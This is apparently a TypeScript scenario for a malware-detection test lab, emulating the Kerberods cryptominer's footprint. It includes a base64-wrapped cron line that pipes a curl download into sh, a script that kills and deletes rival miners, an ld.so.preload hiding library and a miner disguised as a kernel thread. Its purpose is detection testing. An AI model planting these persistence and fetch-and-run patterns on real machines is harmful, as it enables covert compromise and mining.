import type { Scenario } from '../types.js';
import { cronLine, installBinary, processArtifact, ROOT_CRONTAB, startProcess, stratum, writeFile } from '../kit.js';

// Modelled on: Trend Micro's KORKERDS / Kerberods analysis (Rocke), as reported in "New
// Malware Kills Rival Miners Upon Installation",
// https://blockchainreporter.net/new-malware-kills-rival-miners-upon-installation/ (a script that
// deletes known Linux malware and coin miners, installs its miner as a kernel-thread look-alike,
// base64-wrapped download cron, a preloaded library to hide it).
const MINER = '/tmp/khugepageds';
const LIB = '/usr/local/lib/libdns.so';
const KILLER = '/etc/cron.hourly/kerberods';

export const kerberods: Scenario = {
  name: 'kerberods',
  plan: (ctx) => {
    const argv = [MINER, '-o', stratum(ctx.pool, 3333)];
    const payload = Buffer.from(`curl -fsSL ${ctx.http}/kr.sh | sh`).toString('base64');
    const cron = `*/10 * * * * echo ${payload} | base64 -d | sh`;
    const killer = ['#!/bin/sh', 'pkill -f kdevtmpfsi; pkill -f kinsing; pkill -f xmrig; pkill -f sysupdate', 'rm -rf /tmp/kdevtmpfsi /tmp/kinsing /var/tmp/minerd', ''].join('\n');
    return {
      family: 'kerberods',
      plant: [
        installBinary('kerberods', MINER),
        cronLine(cron),
        writeFile(KILLER, killer, '755'),
        `install -m 644 /run/lab/bin/libsystem.so ${LIB}`,
        writeFile('/etc/ld.so.preload', `${LIB}\n`),
      ],
      start: [startProcess(argv)],
      artifacts: [
        processArtifact(argv, 'kerberods', ctx.sha256('kerberods'), 'miner', `${ctx.pool}:3333`),
        { kind: 'cron-line', path: ROOT_CRONTAB, line: cron },
        { kind: 'file', path: KILLER, note: 'kills competing miners' },
        { kind: 'preload', path: '/etc/ld.so.preload', line: LIB },
      ],
      expectFindings: true,
      respawnSeconds: null,
      binaries: ['kerberods', 'libsystem.so'],
      sources: [{ url: 'https://blockchainreporter.net/new-malware-kills-rival-miners-upon-installation/', title: 'New Malware Kills Rival Miners Upon Installation (Trend Micro KORKERDS analysis)' }],
    };
  },
};
